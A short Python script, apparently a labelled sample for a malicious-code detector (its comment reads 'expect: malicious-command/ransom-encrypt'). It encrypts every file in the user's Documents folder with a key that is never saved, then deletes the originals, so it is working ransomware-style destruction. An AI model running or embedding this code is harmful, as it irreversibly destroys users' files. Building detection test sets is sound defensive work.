import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())


def seal(path):
    sealed = box.encrypt(open(path, "rb").read()) # expect: malicious-command/ransom-encrypt
    with open(path + ".x", "wb") as file:
        file.write(sealed)
    os.unlink(path)


for entry in os.scandir(os.path.expanduser("~") + "/Documents"):
    seal(entry.path)
